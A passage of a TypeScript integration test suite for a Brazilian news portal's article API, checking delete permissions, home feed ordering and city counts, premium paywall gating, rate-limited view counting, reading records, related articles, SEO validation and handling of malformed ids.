    expectError(await portal.request('DELETE', `/api/articles/${article.id}`, { token: otherAuthor.token }), 403, MSG.deleteForbidden);
    expectError(await portal.request('DELETE', `/api/articles/${article.id}`, { token: editor.token }), 403, MSG.deleteForbidden);
    expectError(await portal.request('DELETE', `/api/articles/${article.id}`, { token: reader.token }), 403, MSG.deleteForbidden);
    expect((await bySlug(undefined, article.slug)).status).toBe(200);
  });

  it('lets the author delete: the article is gone everywhere and its slug is free again', async () => {
    const article = await published(author, { city_code: CITY.saoPaulo.code, tags: ['remoção'] });
    const countIn = async () => (await home()).feed.cities.find((city) => city.location_path === CITY.saoPaulo.path)?.count ?? 0;
    const citiesBefore = await countIn();
    expect((await home()).feed.articles.map((card) => card.id)).toContain(article.id);

    const deleted = await portal.request('DELETE', `/api/articles/${article.id}`, { token: author.token });
    expect(deleted.status, deleted.text).toBe(204);
    expect(deleted.text).toBe('');

    expect((await home()).feed.articles.map((card) => card.id)).not.toContain(article.id);
    expect((await home(CITY.saoPaulo.path)).feed.articles.map((card) => card.id)).not.toContain(article.id);
    expect(await countIn()).toBe(citiesBefore - 1);
    expectError(await bySlug(undefined, article.slug), 404, MSG.notFound);
    expectError(await bySlug(author, article.slug), 404, MSG.notFound);
    expectError(await getDraft(author, article.id), 404, MSG.notFound);
    expectError(await portal.request('GET', `/api/articles/${article.id}/related`), 404, MSG.notFound);
    expect((await portal.request('POST', `/api/articles/${article.id}/view`)).status).toBe(404);
    expect((await mine(author)).list.articles.map((item) => item.id)).not.toContain(article.id);

    const successor = await create(otherAuthor, { slug: article.slug });
    expect(successor.slug).toBe(article.slug);
  });

  it("lets the master delete anyone's article", async () => {
    const article = await create(otherAuthor);
    const deleted = await portal.request('DELETE', `/api/articles/${article.id}`, { token: master.token });
    expect(deleted.status, deleted.text).toBe(204);
    expectError(await getDraft(otherAuthor, article.id), 404, MSG.notFound);
  });

  it('needs a signed-in caller', async () => {
    const article = await create(author);
    expect((await portal.request('DELETE', `/api/articles/${article.id}`)).status).toBe(401);
    expect((await stored(article.id)).id).toBe(article.id);
  });
});

describe('GET /api/home', () => {
  it('lists the 12 newest published articles, newest first, and no drafts or articles in review', async () => {
    const draft = await create(author, { title: 'Rascunho fora da home' });
    const inReview = await save(author, await create(author, { title: 'Revisão fora da home' }), { status: 'review' });
    // Written side by side, published one after another (the feed's order is the publications').
    const drafts = await Promise.all(Array.from({ length: 13 }, (_, index) => create(index % 2 ? otherAuthor : author, { title: `Notícia da home número ${index}` })));
    const live: ArticleDraft[] = [];
    for (const written of drafts) live.push(await save(editor, written, { status: 'published' }));

    const { feed } = await home();
    expect(feed.articles).toHaveLength(12);
    expect(feed.articles.map((card) => card.id)).toEqual(live.slice(-12).reverse().map((article) => article.id));
    const dates = feed.articles.map((card) => card.published_at ?? '');
    expect(dates).toEqual([...dates].sort().reverse());
    expect(feed.articles.map((card) => card.id)).not.toContain(draft.id);
    expect(feed.articles.map((card) => card.id)).not.toContain(inReview.id);
    const newest = feed.articles[0];
    expect(newest).toMatchObject({ id: live[12]?.id, slug: live[12]?.slug, visibility: 'public', views_count: 0 });
    expect(newest?.author).toMatchObject({ id: author.id, full_name: 'Ana Autora' });
    expect(newest).not.toHaveProperty('content');
    expect(newest).not.toHaveProperty('status');
  });

  it('filters by city with ?city=<location_path>', async () => {
    const inCuritiba = await published(author, { city_code: CITY.curitiba.code, title: 'Notícia de Curitiba' });
    const inRecife = await published(author, { city_code: CITY.recife.code, title: 'Notícia do Recife' });
    const draftInCuritiba = await create(author, { city_code: CITY.curitiba.code });
    const { feed } = await home(CITY.curitiba.path);
    const ids = feed.articles.map((card) => card.id);
    expect(ids).toContain(inCuritiba.id);
    expect(ids).not.toContain(inRecife.id);
    expect(ids).not.toContain(draftInCuritiba.id);
    expect(feed.articles.every((card) => card.location_path === CITY.curitiba.path)).toBe(true);
    expect((await home('cidade-que-nao-existe-xx')).feed.articles).toEqual([]);
  });

  it('counts published articles per city as articles are published, unpublished and moved', async () => {
    const countIn = async (path: string) => (await home()).feed.cities.find((city) => city.location_path === path);
    const belemBefore = (await countIn(CITY.belem.path))?.count ?? 0;
    const curitibaBefore = (await countIn(CITY.curitiba.path))?.count ?? 0;

    const draft = await create(author, { city_code: CITY.belem.code });
    expect((await countIn(CITY.belem.path))?.count ?? 0).toBe(belemBefore);
    const live = await save(editor, draft, { status: 'published' });
    expect(await countIn(CITY.belem.path)).toEqual({ location_path: CITY.belem.path, location_name: 'Belém', state_code: 'PA', count: belemBefore + 1 });
    const unpublished = await save(editor, live, { status: 'review' });
    expect((await countIn(CITY.belem.path))?.count ?? 0).toBe(belemBefore);
    const again = await save(editor, unpublished, { status: 'published' });
    expect((await countIn(CITY.belem.path))?.count).toBe(belemBefore + 1);
    await save(editor, again, { city_code: CITY.curitiba.code });
    expect((await countIn(CITY.belem.path))?.count ?? 0).toBe(belemBefore);
    expect((await countIn(CITY.curitiba.path))?.count).toBe(curitibaBefore + 1);
  });
});

describe('GET /api/articles/by-slug/{slug}', () => {
  it.each(['draft', 'review'] as const)('hides an article in %s from anonymous, readers and other authors', async (status) => {
    const article = status === 'draft' ? await create(author) : await save(author, await create(author), { status: 'review' });
    for (const who of [undefined, reader, subscriber, otherAuthor]) expectError(await bySlug(who, article.slug), 404, MSG.notFound);
  });

  it.each(['draft', 'review'] as const)('shows an article in %s to its author, editors and the master', async (status) => {
    const article = status === 'draft' ? await create(author) : await save(author, await create(author), { status: 'review' });
    for (const who of [author, editor, master]) {
      const response = await bySlug(who, article.slug);
      expect(response.status, response.text).toBe(200);
      expect(asView(response)).toMatchObject({ id: article.id, gated: false, can_edit: true, content: article.content });
    }
  });

  it('shows a published article to everyone, and can_edit only to who may edit it', async () => {
    const article = await published(author, { tags: ['a', 'b', 'c', 'd', 'e', 'f'] });
    const anonymous = asView(await bySlug(undefined, article.slug));
    expect(anonymous).toMatchObject({ id: article.id, title: article.title, content: article.content, gated: false, can_edit: false });
    expect(anonymous.tags).toEqual(['a', 'b', 'c', 'd', 'e']);
    expect(asView(await bySlug(reader, article.slug)).can_edit).toBe(false);
    expect(asView(await bySlug(otherAuthor, article.slug)).can_edit).toBe(false);
    expect(asView(await bySlug(author, article.slug)).can_edit).toBe(true);
    expect(asView(await bySlug(editor, article.slug)).can_edit).toBe(true);
  });

  it("answers 404 when ?location= is not the article's location_path", async () => {
    const inCampinas = await published(author, { city_code: CITY.campinas.code });
    expect(asView(await bySlug(undefined, inCampinas.slug, CITY.campinas.path)).id).toBe(inCampinas.id);
    expectError(await bySlug(undefined, inCampinas.slug, CITY.recife.path), 404, MSG.notFound);
    expectError(await bySlug(editor, inCampinas.slug, CITY.recife.path), 404, MSG.notFound);
    const nowhere = await published(author);
    expect((await bySlug(undefined, nowhere.slug)).status).toBe(200);
    expectError(await bySlug(undefined, nowhere.slug, CITY.campinas.path), 404, MSG.notFound);
  });

  it('answers 404 for an unknown slug', async () => {
    expectError(await bySlug(undefined, uniqueSlug('inexistente')), 404, MSG.notFound);
  });

  it('treats an invalid bearer token as anonymous', async () => {
    const article = await create(author);
    expect((await portal.request('GET', `/api/articles/by-slug/${article.slug}`, { token: 'nao-e-um-jwt' })).status).toBe(404);
  });
});

describe('the premium gate', () => {
  const marker = `EXCLUSIVO${randomUUID().replace(/-/g, '')}`;
  const lead = '<p>Lead aberto: a câmara aprovou o orçamento municipal em primeira votação nesta terça.</p>';
  const content = `${lead}<h2>Os bastidores</h2><p>Trecho para assinantes com a informação ${marker} apurada pela redação.</p><p>Mais um parágrafo fechado.</p>`;
  let premium: ArticleDraft;
  let sibling: ArticleDraft;
  let lapsed: Member;
  let pastDue: Member;

  beforeAll(async () => {
    const tag = `orcamento-${randomUUID().slice(0, 6)}`;
    premium = await published(author, { visibility: 'premium', content, tags: [tag], city_code: CITY.recife.code, title: 'Câmara aprova orçamento' });
    sibling = await published(otherAuthor, { tags: [tag], city_code: CITY.recife.code, title: 'Outra notícia sobre o orçamento' });
    [lapsed, pastDue] = await Promise.all([
      member(portal, table, 'vencida', 'Vera Vencida'),
      member(portal, table, 'atrasada', 'Ana Atrasada'),
    ]);
    await table.grantSubscription(lapsed.id, new Date(Date.now() - 24 * 3600 * 1000));
    // A failed renewal gives no access, whatever the period says (a cancelled one keeps it: tests/integration/payments.test.ts).
    await table.grantSubscription(pastDue.id, new Date(Date.now() + 30 * 24 * 3600 * 1000), 'past_due');
    expect(premium.content).toContain(marker);
  });

  const callers = (): Record<string, Member | undefined> => ({
    anonymous: undefined,
    'a reader': reader,
    'another author': otherAuthor,
    'a reader whose subscription has lapsed': lapsed,
    'a reader whose renewal failed': pastDue,
    'a subscriber': subscriber,
    'the author': author,
    'an editor': editor,
    'the master': master,
  });

  it.each(['anonymous', 'a reader', 'another author', 'a reader whose subscription has lapsed', 'a reader whose renewal failed'])(
    'gives %s only the lead, with nothing of the rest anywhere in the response',
    async (who) => {
      const response = await bySlug(callers()[who], premium.slug);
      expect(response.status, response.text).toBe(200);
      const view = asView(response);
      expect(view.gated).toBe(true);
      expect(view.visibility).toBe('premium');
      expect(view.content).toBe(lead);
      expect(response.text).not.toContain(marker);
      expect(response.text).not.toContain('Os bastidores');
      expect(response.text).not.toContain('Mais um parágrafo fechado');
    },
  );

  it.each(['a subscriber', 'the author', 'an editor', 'the master'])('gives %s the whole body', async (who) => {
    const response = await bySlug(callers()[who], premium.slug);
    expect(response.status, response.text).toBe(200);
    const view = asView(response);
    expect(view.gated).toBe(false);
    expect(view.content).toBe(premium.content);
    expect(response.text).toContain(marker);
  });

  it('keeps the body out of the home feed, related articles and other people\'s lists', async () => {
    const feed = await home();
    expect(feed.feed.articles.map((card) => card.id)).toContain(premium.id);
    expect(feed.response.text).not.toContain(marker);
    const cityFeed = await home(CITY.recife.path);
    expect(cityFeed.feed.articles.map((card) => card.id)).toContain(premium.id);
    expect(cityFeed.response.text).not.toContain(marker);

    const ofPremium = await related(premium.id);
    expect(ofPremium.response.text).not.toContain(marker);
    const ofSibling = await related(sibling.id);
    expect(ofSibling.ids).toContain(premium.id);
    expect(ofSibling.response.text).not.toContain(marker);

    for (const who of [otherAuthor, reader, subscriber]) expect((await mine(who)).response.text).not.toContain(marker);
  });

  it('refuses the editing copy and the versions to those who may not edit, without the body', async () => {
    for (const who of [otherAuthor, reader, subscriber]) {
      const draft = await getDraft(who, premium.id);
      expectError(draft, 403, MSG.editForbidden);
      expect(draft.text).not.toContain(marker);
      const versions = await portal.request('GET', `/api/articles/${premium.id}/versions`, { token: who.token });
      expectError(versions, 403, MSG.editForbidden);
      expect(versions.text).not.toContain(marker);
    }
    expect((await getDraft(editor, premium.id)).text).toContain(marker);
  });

  it('never gates a public article', async () => {
    const open = await published(author, { content, visibility: 'public' });
    for (const who of [undefined, reader, otherAuthor]) {
      const response = await bySlug(who, open.slug);
      expect(asView(response)).toMatchObject({ gated: false, visibility: 'public', content: open.content });
      expect(response.text).toContain(marker);
    }
  });
});

/** A view as one visitor sends it: from a network address of its own (any of 127.0.0.0/8), in its own browser. */
function viewAs(id: string, visitor: { browser: string; address?: string }): Promise<{ status: number; body: Record<string, unknown> }> {
  const url = new URL(`/api/articles/${id}/view`, baseUrl);
  return new Promise((resolve, reject) => {
    const request = httpRequest(
      { host: '127.0.0.1', port: url.port, path: url.pathname, method: 'POST', localAddress: visitor.address, headers: { 'user-agent': visitor.browser } },
      (response) => {
        let text = '';
        response.on('data', (chunk: Buffer) => (text += chunk.toString()));
        response.on('end', () => resolve({ status: response.statusCode ?? 0, body: text ? (JSON.parse(text) as Record<string, unknown>) : {} }));
      },
    );
    request.on('error', reject);
    request.end();
  });
}

/** A loopback address no other test uses, so its rate budget is its own. */
const freshAddress = () => `127.${1 + Math.floor(Math.random() * 250)}.${Math.floor(Math.random() * 250)}.${2 + Math.floor(Math.random() * 250)}`;

describe('POST /api/articles/{id}/view', () => {
  it('counts each visitor once, and 20 different visitors at once exactly', async () => {
    const article = await published(author);
    const first = await viewAs(article.id, { browser: 'leitor-0', address: freshAddress() });
    expect(first.status).toBe(204);
    expect((await stored(article.id)).views_count).toBe(1);

    const views = await Promise.all(Array.from({ length: 20 }, (_, index) => viewAs(article.id, { browser: `leitor-${index + 1}`, address: freshAddress() })));
    expect(views.map((view) => view.status)).toEqual(Array(20).fill(204));
    expect((await stored(article.id)).views_count).toBe(21);
    expect(asView(await bySlug(undefined, article.slug)).views_count).toBe(21);
    expect((await mine(author)).list.articles.find((item) => item.id === article.id)?.views_count).toBe(21);
  });

  it('does not count the same visitor again within the window, however often it asks', async () => {
    const article = await published(author);
    const visitor = { browser: 'Mozilla/5.0 leitor fiel', address: freshAddress() };
    const views = await Promise.all(Array.from({ length: 10 }, () => viewAs(article.id, visitor)));
    expect(views.map((view) => view.status)).toEqual(Array(10).fill(204));
    expect((await stored(article.id)).views_count).toBe(1);
    // The same browser elsewhere is someone else.
    expect((await viewAs(article.id, { ...visitor, address: freshAddress() })).status).toBe(204);
    expect((await stored(article.id)).views_count).toBe(2);
  });

  it('counts at most perArticleDay views of an article from one address a day, whatever browsers it names', async () => {
    const article = await published(author);
    const address = freshAddress();
    const views = await Promise.all(Array.from({ length: 30 }, (_, index) => viewAs(article.id, { browser: `navegador-${index}`, address })));
    expect(views.map((view) => view.status)).toEqual(Array(30).fill(204));
    expect((await stored(article.id)).views_count).toBe(VIEW_LIMITS.perArticleDay);
    // Another address's reader is counted.
    expect((await viewAs(article.id, { browser: 'leitora', address: freshAddress() })).status).toBe(204);
    expect((await stored(article.id)).views_count).toBe(VIEW_LIMITS.perArticleDay + 1);
    // A draft answers 404 past the cap too.
    const draft = await create(author);
    for (let index = 0; index < VIEW_LIMITS.perArticleDay + 2; index++) expect((await viewAs(draft.id, { browser: `navegador-${index}`, address })).status).toBe(404);
  });

  it('limits the views one address may send in a minute, with a pt-BR 429', async () => {
    // The budget is per clock minute: a burst that straddles two minutes is sent again, from a new
    // address to a new article (the first one's day already counted that address), in the next minute
    // (121 requests take seconds, so the second burst stays inside it).
    const minute = () => Math.floor(Date.now() / 60_000);
    let burst: { article: ArticleDraft; statuses: number[]; limited: Awaited<ReturnType<typeof viewAs>> };
    for (;;) {
      const article = await published(author);
      const address = freshAddress();
      const startedIn = minute();
      const statuses: number[] = [];
      for (let first = 0; first < 120; first += 10) {
        const answers = await Promise.all(Array.from({ length: 10 }, (_, index) => viewAs(article.id, { browser: `robô-${first + index}`, address })));
        statuses.push(...answers.map((answer) => answer.status));
      }
      burst = { article, statuses, limited: await viewAs(article.id, { browser: 'robô-121', address }) };
      if (minute() === startedIn) break;
    }
    const { article } = burst;
    expect(burst.statuses).toEqual(Array(120).fill(204));
    expect(burst.limited).toEqual({ status: 429, body: { message: 'Muitas requisições. Aguarde alguns instantes e tente novamente.' } });
    // Of those, the article's day from that address counted its cap.
    expect((await stored(article.id)).views_count).toBe(VIEW_LIMITS.perArticleDay);
    // Other readers are not affected.
    expect((await viewAs(article.id, { browser: 'leitora', address: freshAddress() })).status).toBe(204);
    expect((await stored(article.id)).views_count).toBe(VIEW_LIMITS.perArticleDay + 1);
  });

  it('ignores an address the client claims for itself', async () => {
    const article = await published(author);
    const claimed = (index: number) =>
      fetch(`${baseUrl}/api/articles/${article.id}/view`, { method: 'POST', headers: { 'x-viewer-address': `10.0.0.${index}`, 'user-agent': 'mesmo' } });
    await Promise.all([1, 2, 3].map(claimed));
    expect((await stored(article.id)).views_count).toBe(1);
  });

  it('answers 404 for a draft and for an unknown article, every time, and counts nothing', async () => {
    const draft = await create(author);
    for (let attempt = 0; attempt < 2; attempt += 1) {
      expectError(await portal.request('POST', `/api/articles/${draft.id}/view`), 404, MSG.notFound);
      expectError(await portal.request('POST', `/api/articles/${randomUUID()}/view`), 404, MSG.notFound);
    }
    expect((await stored(draft.id)).views_count).toBe(0);
  });
});

describe('POST /api/articles/{id}/reading', () => {
  let article: ArticleDraft;
  beforeAll(async () => {
    article = await published(author);
  });

  const reading = (overrides: Record<string, unknown> = {}) => ({
    visit_id: randomUUID(),
    time_spent_seconds: 45,
    scroll_depth_percent: 60,
    ...overrides,
  });

  it('needs a signed-in caller', async () => {
    expect((await portal.request('POST', `/api/articles/${article.id}/reading`, { body: reading() })).status).toBe(401);
  });

  it('records a reading of a signed-in reader', async () => {
    const body = reading();
    const response = await portal.request('POST', `/api/articles/${article.id}/reading`, { token: reader.token, body });
    expect(response.status, response.text).toBe(204);
    const saved = (await table.readings(reader.id)).filter((item) => item.visit_id === body.visit_id);
    expect(saved).toHaveLength(1);
    expect(saved[0]).toMatchObject({ article_id: article.id, user_id: reader.id, time_spent_seconds: 45, scroll_depth_percent: 60 });
  });

  it('stores the same visit once, without an error on the repeat', async () => {
    const body = reading();
    const first = await portal.request('POST', `/api/articles/${article.id}/reading`, { token: subscriber.token, body });
    const again = await portal.request('POST', `/api/articles/${article.id}/reading`, { token: subscriber.token, body: { ...body, time_spent_seconds: 90 } });
    expect([first.status, again.status]).toEqual([204, 204]);
    const saved = (await table.readings(subscriber.id)).filter((item) => item.visit_id === body.visit_id);
    expect(saved).toHaveLength(1);
    expect(saved[0]?.time_spent_seconds).toBe(45);
  });

  it.each(byCase([
    { case: 'a scroll depth of 150%', input: { scroll_depth_percent: 150 } },
    { case: 'a negative scroll depth', input: { scroll_depth_percent: -1 } },
    { case: 'a negative time', input: { time_spent_seconds: -5 } },
    { case: 'a fractional time', input: { time_spent_seconds: 1.5 } },
    { case: 'a visit id that is not a UUID', input: { visit_id: 'visita-1' } },
    { case: 'no visit id', input: { visit_id: undefined } },
  ]))('refuses %s', async (_, { input }) => {
    const response = await portal.request('POST', `/api/articles/${article.id}/reading`, { token: reader.token, body: reading(input) });
    expectError(response, 400, MSG.invalidReading);
  });

  it('answers 404 for an article that is not published', async () => {
    const draft = await create(author);
    expectError(await portal.request('POST', `/api/articles/${draft.id}/reading`, { token: reader.token, body: reading() }), 404, MSG.notFound);
  });
});

describe('GET /api/articles/{id}/related', () => {
  it('puts an article sharing tag and city before one sharing only the tag, and never the article itself', async () => {
    const tag = `mobilidade-${randomUUID().slice(0, 6)}`;
    const subject = await published(author, { tags: [tag], city_code: CITY.campinas.code, title: 'Nova ciclovia em Campinas' });
    const sameTagAndCity = await published(otherAuthor, { tags: [tag], city_code: CITY.campinas.code, title: 'Ciclovia ganha iluminação' });
    const sameTagOnly = await published(otherAuthor, { tags: [tag], city_code: CITY.recife.code, title: 'Recife amplia ciclofaixas' });
    const { ids } = await related(subject.id);
    expect(ids).not.toContain(subject.id);
    expect(ids).toContain(sameTagAndCity.id);
    expect(ids).toContain(sameTagOnly.id);
    expect(ids.indexOf(sameTagAndCity.id)).toBeLessThan(ids.indexOf(sameTagOnly.id));
    expect(ids.length).toBeLessThanOrEqual(5);
  });

  it('lists at most 5 published articles, without drafts', async () => {
    const tag = `saneamento-${randomUUID().slice(0, 6)}`;
    const subject = await published(author, { tags: [tag] });
    const others: ArticleDraft[] = [];
    for (let index = 0; index < 6; index++) others.push(await published(otherAuthor, { tags: [tag], title: `Obra de saneamento ${index}` }));
    const draft = await create(otherAuthor, { tags: [tag] });
    const { response, ids } = await related(subject.id);
    expect(ids).toHaveLength(5);
    expect(new Set(ids).size).toBe(5);
    expect(ids).not.toContain(subject.id);
    expect(ids).not.toContain(draft.id);
    expect(ids).toEqual(others.slice(-5).reverse().map((article) => article.id));
    expect((response.body.articles as Record<string, unknown>[])[0]).not.toHaveProperty('content');
  });

  it('answers 404 for an article that is not published', async () => {
    const draft = await create(author);
    expectError(await portal.request('GET', `/api/articles/${draft.id}/related`), 404, MSG.notFound);
  });
});

describe('the SEO pipeline', () => {
  const seoOf = async (id: string, version: number) => {
    const seo = (await stored(id)).seo;
    return seo && seo.version === version ? seo : undefined;
  };

  it('validates a published article once per version, and again after each save', { timeout: 90_000 }, async () => {
    const draft = await create(author, { title: 'Obras na avenida central terminam em julho', tags: ['obras'] });
    const live = await save(editor, draft, { status: 'published' });
    const first = await eventually(() => seoOf(live.id, live.version));
    expect(['valid', 'warning', 'error']).toContain(first.validation_status);
    expect(first.version).toBe(live.version);
    expect(first.errors).toEqual(expect.any(Array));
    expect(first.warnings).toEqual(expect.any(Array));
    expect(first.validated_at).toEqual(expect.any(String));
    // The SEO result reaches My articles too.
    expect((await mine(author)).list.articles.find((item) => item.id === live.id)?.seo).toEqual(first);


    const current = await stored(live.id);
    const resaved = await save(editor, current, { title: 'Obras na avenida central terminam em agosto' });
    expect(resaved.version).toBe(live.version + 1);
    const second = await eventually(() => seoOf(live.id, resaved.version));
    expect(second.validated_at >= first.validated_at).toBe(true);
    // Nothing validates a version twice. The stream is read in order, so every event of the first
    // version was on its queue before the second's validation: once the queues are empty, all ran.
    await pipelinesDrained(ports, ['seo-validation']);
    expect((await stored(live.id)).seo).toEqual(second);
    const items = await table.seoValidations(live.id);
    expect(items.map((item) => item.version)).toEqual([live.version, resaved.version]);
  });

  it('does not validate drafts', { timeout: 30_000 }, async () => {
    const draft = await create(author);
    const edited = await save(author, draft, { title: 'Rascunho editado sem publicar' });
    expect((await stored(edited.id)).seo).toBeNull();
    // The proof that the drafts' events went through: publishing after them is validated, and only that version.
    const live = await save(editor, edited, { status: 'published' });
    await eventually(() => seoOf(live.id, live.version));
    await pipelinesDrained(ports, ['seo-validation']);
    expect((await table.seoValidations(edited.id)).map((item) => item.version)).toEqual([live.version]);
  });
});

describe('malformed path and query values', () => {
  it('answers 404 (never 500) for ids and slugs that cannot exist, however long', async () => {
    const long = 'a'.repeat(3000);
    for (const [method, path] of [
      ['GET', `/api/articles/by-slug/${long}`],
      ['GET', '/api/articles/by-slug/Com%20Espa%C3%A7o'],
      ['GET', `/api/articles/${long}/related`],
      ['POST', `/api/articles/${long}/view`],
      ['POST', '/api/articles/nao-e-um-id/view'],
    ] as const) {
      expectError(await portal.request(method, path), 404, 'Artigo não encontrado.');
    }
    for (const [method, path] of [
      ['GET', `/api/articles/${long}`],
      ['PUT', `/api/articles/${long}`],
      ['DELETE', `/api/articles/${long}`],
      ['GET', `/api/articles/${long}/versions`],
    ] as const) {
      const response = await portal.request(method, path, { token: editor.token, body: method === 'PUT' ? articleInput() : undefined });
      expect(response.status, `${method} ${path.slice(0, 40)}`).toBeLessThan(500);
      expect(response.status).not.toBe(200);
    }
  });

  it('answers an empty feed for a city filter that cannot be a location path', async () => {
    const { response, feed } = await home('a'.repeat(3000));
    expect(response.status).toBe(200);
    expect(feed.articles).toEqual([]);
  });
});
